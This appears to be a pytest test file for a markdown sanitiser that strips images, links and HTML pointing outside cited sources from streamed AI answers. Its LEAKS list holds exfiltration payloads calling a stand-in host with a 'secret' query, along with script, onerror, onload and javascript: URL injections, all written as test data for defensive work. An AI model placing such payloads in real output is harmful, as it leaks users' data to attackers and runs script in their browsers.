"""Nothing in an answer loads or leads out of it, in any part of it that is shown."""

import re

import pytest

from core.answer.cite import tidy_markers
from core.answer.safe_markdown import safe_markdown

EVIL = "https://evil.example/x?d=secret"


LEAKS = [
    f"![a]({EVIL})",
    f"![a]( <{EVIL}> 'title')",
    f"![a\n]({EVIL})",
    f"[click here]({EVIL})",
    f"[![a]({EVIL})]({EVIL})",
    f"[[![a]({EVIL})]({EVIL})]({EVIL})",
    f"![a][ref]\n\n[ref]: {EVIL}",
    f"[ref]\n\n[ref]:\n  <{EVIL}>",
    f"[1]\n\n[1]: {EVIL} 'title'",
    f"> [1]: {EVIL}",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} onerror=alert(1)>",
    f'<a href="{EVIL}">here</a>',
    f"<{EVIL}>",
    f"see {EVIL} now",
    "see www.evil.example/x?d=secret now",
    "![a](//evil.example/x)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,AAAA)",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    f"![a\\]]({EVIL})",
    f"!\u200b[a]\u200b({EVIL})",
    f"![a]\u2060({EVIL})",
    f"[x](https://ok.example/page) ![a]({EVIL})",
]


def loads_or_leads(markdown: str) -> list[str]:
    """Every address that a CommonMark reader (with HTML and bare links switched on) would load or link to."""
    from markdown_it import MarkdownIt

    found: list[str] = []
    for block in MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown):
        for token in [block, *(block.children or [])]:
            found += [str(token.attrs[name]) for name in ("src", "href") if name in token.attrs]
            found += [token.content] if token.type in ("html_block", "html_inline") else []
            found += re.findall(r"(?:https?://|www\.)\S+", token.content) if token.type == "text" else []
    return found


def test_the_leaks_are_leaks() -> None:
    assert sum(bool(loads_or_leads(leak)) for leak in LEAKS) > len(LEAKS) * 0.8


@pytest.mark.parametrize("leak", LEAKS)
def test_nothing_loads_or_leads_out_in_any_beginning_of_an_answer(leak: str) -> None:
    sources = "See https://ok.example/page for more."
    answer = f"Duty is 19 percent [1].\n\n{leak}\n\nThat is all."
    for end in range(len(answer) + 1):
        for complete in (False, True):
            shown = safe_markdown(answer[:end], sources, complete=complete)
            assert set(loads_or_leads(shown)) <= {"https://ok.example", "https://ok.example/page"}
    final = safe_markdown(answer, sources)
    assert "Duty is 19 percent [1]." in final
    assert final.endswith("That is all.")
    assert "evil.example/x?d" not in final


@pytest.mark.parametrize("leak", [*LEAKS, "A plain answer [1], [2] and 3 < 4 [note]."])
def test_what_was_shown_while_writing_is_never_taken_back(leak: str) -> None:
    answer = f"Duty is 19 percent [1]. And [more text\n\n{leak}\n\nThat is all, 5 [1, 2] [3] end."
    shown = ""
    for end in range(len(answer) + 1):
        longer = tidy_markers(safe_markdown(answer[:end], complete=False), 2)
        assert longer.startswith(shown) or len(longer) <= len(shown)
        shown = longer if longer.startswith(shown) else shown
    assert "Duty is 19 percent [1]." in shown


def test_links_of_the_documents_stay() -> None:
    sources = "Use the form at https://ok.example/form?a=1. Mail us."
    assert safe_markdown("[form](https://ok.example/form?a=1)", sources) == "[form](https://ok.example/form?a=1)"
    assert safe_markdown("See https://ok.example/form?a=1.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("See <https://ok.example/form?a=1>.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("[form](https://ok.example/form?a=1&d=secret)", sources) == "form"
    assert safe_markdown("[form](https://ok.exam)", sources) == "form"


@pytest.mark.parametrize(
    "plain",
    [
        "Duty is **19 %** for 3 < 4 and 5 > 2.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "1. One [1]\n2. Two [2]",
        "`code` and *words*",
        "می\u200cخواهم",
        "👨\u200d👩\u200d👧 fine ❤\ufe0f",
        "# Heading\n\n- item",
    ],
)
def test_ordinary_markdown_is_left_alone(plain: str) -> None:
    assert safe_markdown(plain) == plain
